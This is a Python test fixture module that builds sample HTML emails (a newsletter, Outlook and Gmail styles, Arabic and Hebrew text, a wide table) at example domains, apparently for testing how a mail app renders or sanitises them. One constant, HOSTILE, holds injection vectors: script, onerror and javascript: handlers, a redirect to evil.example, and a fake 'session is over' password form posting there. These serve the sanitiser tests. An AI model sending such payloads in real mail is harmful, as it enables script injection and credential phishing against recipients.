"""Mails with HTML as programs really write them, for tests: invented people and shops at example domains only."""

# ruff: noqa: E501  # mails as programs write them

from __future__ import annotations

import base64
import struct
import zlib
from datetime import datetime
from email.utils import format_datetime

from tests.raw_mail import MONDAY


def png(width: int = 240, height: int = 80, *, colour: tuple[int, int, int] = (43, 67, 182)) -> bytes:
    """Return a picture of one colour."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    rows = (b"\0" + bytes(colour) * width) * height
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def html_mail(
    html: str,
    *,
    plain: str = "",
    parts: tuple[bytes, ...] = (),
    key: str = "",
    author: str = "Ann Archer <ann@example.org>",
    subject: str = "A question",
    at: datetime = MONDAY,
) -> bytes:
    """Return a mail with HTML, its plain form when there is one, and other parts beside."""
    head = [f"From: {author}", "To: Rotor <hello@rotor.example>", f"Subject: {subject}", f"Date: {format_datetime(at)}"]
    head += [f"Message-ID: <{key}>"] if key else []
    forms = [_part("text/plain; charset=utf-8", plain.encode())] if plain else []
    body = _joined("alternative", [*forms, _part("text/html; charset=utf-8", html.encode())], "forms")
    if parts:
        body = _joined("related", [body, *parts], "whole")
    return "\n".join([*head, "MIME-Version: 1.0", ""]).encode() + body


def picture(name: str = "", *, content_id: str = "", content: bytes = b"", kind: str = "image/png") -> bytes:
    """Return a part with a picture, or another file."""
    more = (f"Content-ID: <{content_id}>",) if content_id else ()
    named = (f'Content-Disposition: attachment; filename="{name}"',) if name else ()
    return _part(kind, content or png(), *more, *named)


def _part(kind: str, content: bytes, *more: str) -> bytes:
    head = "\n".join([f"Content-Type: {kind}", "Content-Transfer-Encoding: base64", *more, "", ""])
    return head.encode() + base64.encodebytes(content)


def _joined(kind: str, parts: list[bytes], boundary: str) -> bytes:
    inside = b"".join(b"--" + boundary.encode() + b"\n" + part + b"\n" for part in parts)
    return f'Content-Type: multipart/{kind}; boundary="{boundary}"\n\n'.encode() + inside + f"--{boundary}--\n".encode()


NEWSLETTER = """<!doctype html><html><head><meta charset=utf-8><title>Stair letter</title>
<style>@import url(https://fonts.example/a.css);
 body{margin:0;background:#eceff1} .card{border-radius:6px} .button:hover{background:#0b5}
 @media only screen and (max-width:480px){.two{display:block!important;width:100%!important}}</style></head>
<body bgcolor="#eceff1" style="margin:0;padding:0;font-family:Helvetica,Arial,sans-serif">
<img src="https://track.example/open.gif?who=4711" width=1 height=1 alt="">
<table width="100%" cellpadding=0 cellspacing=0><tr><td align=center style="padding:24px">
<table width=600 cellpadding=0 cellspacing=0 class=card bgcolor="#ffffff" style="background:#fff">
<tr><td style="background:#17324d;color:#fff;padding:28px 32px;font-size:26px;font-weight:bold">The Stair Letter
<div style="font-size:13px;font-weight:normal;color:#b9cfe4">Spring: oak, ash, and a new way to measure</div></td></tr>
<tr><td><img src="https://pictures.example/stairs.jpg" width=600 height=220 alt="A winding stair of pale oak in morning light"></td></tr>
<tr><td style="padding:24px 32px;color:#333;font-size:15px;line-height:1.6"><p>Dear Bea,</p>
<p>our new oak treads are <b>ready to order</b>. They fit the 900 mm strings that you asked about in March.</p>
<table width="100%"><tr><td class=two width="50%" valign=top style="padding-right:12px"><img src="https://pictures.example/ash.jpg"
 width=250 height=140 alt="Ash treads"><h3 style="margin:8px 0 0">Ash</h3><p style="margin:4px 0">From 84 a piece</p></td>
<td class=two width="50%" valign=top><img src="https://pictures.example/oak.jpg" width=250 height=140 alt="Oak treads">
<h3 style="margin:8px 0 0">Oak</h3><p style="margin:4px 0">From 112 a piece</p></td></tr></table>
<p align=center><a class=button href="https://shop.example/spring" style="background:#1b8a5a;color:#fff;padding:12px 28px;
text-decoration:none;border-radius:4px;display:inline-block">See the spring list</a></p></td></tr>
<tr><td style="background:#f7f7f7;color:#777;font-size:12px;padding:16px 32px">Stairworks, 4 Mill Lane ·
<a href="https://shop.example/stop" style="color:#777">No more letters</a></td></tr></table></td></tr></table></body></html>"""

OUTLOOK = """<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns="http://www.w3.org/TR/REC-html40"><head>
<meta name=Generator content="Microsoft Word 15"><style><!--
@font-face {font-family:Calibri; panose-1:2 15 5 2 2 2 4 3 2 4;}
p.MsoNormal, li.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif; mso-fareast-language:EN-US;}
a:link, span.MsoHyperlink {mso-style-priority:99; color:#0563C1; text-decoration:underline;}
span.EmailStyle17 {mso-style-type:personal-compose; font-family:"Calibri",sans-serif; color:windowtext;}
div.WordSection1 {page:WordSection1;} --></style></head>
<body lang=EN-GB link="#0563C1" vlink="#954F72" style='word-wrap:break-word'><div class=WordSection1>
<p class=MsoNormal>Dear Rotor,<o:p></o:p></p><p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal><span style='color:black'>the drawing is attached. Please note the <b>three</b> points in
<span style='color:#C00000'>red</span>, and see <a href="https://plans.example/17">the plan</a>.</span><o:p></o:p></p>
<table class=MsoTableGrid border=1 cellspacing=0 cellpadding=0 style='border-collapse:collapse;border:none'>
<tr><td width=180 style='border:solid windowtext 1.0pt;padding:0cm 5.4pt'><p class=MsoNormal>Depth</p></td>
<td width=180 style='border:solid windowtext 1.0pt;padding:0cm 5.4pt'><p class=MsoNormal>900 mm</p></td></tr>
<tr><td style='border:solid windowtext 1.0pt;padding:0cm 5.4pt'><p class=MsoNormal>Rise</p></td>
<td style='border:solid windowtext 1.0pt;padding:0cm 5.4pt'><p class=MsoNormal>182 mm</p></td></tr></table>
<p class=MsoNormal>Kind regards<o:p></o:p></p><p class=MsoNormal>Ann<o:p></o:p></p>
<p class=MsoNormal><img width=120 height=40 src="cid:logo@stairs.example" alt="Archer Stairs"><o:p></o:p></p></div></body></html>"""

GMAIL = """<div dir="ltr">Thanks, that is clear. One more thing: does it come in <i>blue</i>?<div><br></div>
<div>Ann</div></div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, 2 Mar 2026 at 09:00, Rotor
&lt;<a href="mailto:hello@rotor.example">hello@rotor.example</a>&gt; wrote:<br></div><blockquote class="gmail_quote"
style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex"><div dir="ltr"><span
style="color:rgb(34,34,34)">It fits a 3 inch pipe.</span><br></div></blockquote></div>"""

ARABIC = """<html dir="rtl" lang="ar"><body><p>مرحباً،</p><p>هل يناسب الأنبوب الأزرق مقاس <b>3 بوصة</b>؟ رقم الطلب
هو A-4711.</p><ul><li>الطول: 900 مم</li><li>العدد: 12</li></ul><p>مع أطيب التحيات،<br>ليلى</p></body></html>"""
ARABIC_PLAIN = "مرحباً،\n\nهل يناسب الأنبوب الأزرق مقاس 3 بوصة؟ رقم الطلب هو A-4711.\n\nOne line in English.\n\nمع أطيب التحيات،\nليلى\n"

HEBREW = """<div dir="rtl" style="text-align:right">שלום,<br>האם הצינור <b>הכחול</b> מתאים? מספר הזמנה A-4711.<br>תודה, נועה</div>"""

HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<script>document.title = "taken"; parent.document.title = "taken"; fetch("https://evil.example/")</script>
<style>body{background:url(https://evil.example/css.png)} .over{position:fixed;top:0;left:0;width:100%;height:100%}</style></head>
<body onload="document.title='taken'"><div class=over style="position:fixed;inset:0;background:#fff">Your session is over.
<form action="https://evil.example/" method=post>Password <input name=password type=password><button>Sign in</button></form></div>
<img src=x onerror="parent.document.title='taken'"><svg onload="parent.document.title='taken'"><script>1</script></svg>
<iframe src="javascript:parent.document.title='taken'"></iframe><object data="https://evil.example/a.swf"></object>
<a id=trap href="javascript:parent.document.title='taken'">Press here</a>
<a id=away href="https://evil.example/away" target="_top">Leave</a>
<img src="https://evil.example/pixel.gif"><p>All that is left of it.</p></body></html>"""

WIDE = (
    "<p>The list that you wanted:</p><table border=1><tr>"
    + "".join(f"<td nowrap width=120>Column number {number}</td>" for number in range(20))
    + "</tr></table>"
)
